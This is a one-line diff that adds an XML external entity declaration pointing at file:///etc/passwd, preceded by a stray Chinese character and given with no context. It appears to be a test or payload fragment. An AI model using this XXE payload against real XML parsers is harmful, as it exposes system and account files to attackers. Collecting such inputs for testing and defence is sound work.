@@ -1,0 +1,1 @@
+ 函 [<!ENTITY xxe SYSTEM "file:///etc/passwd">]
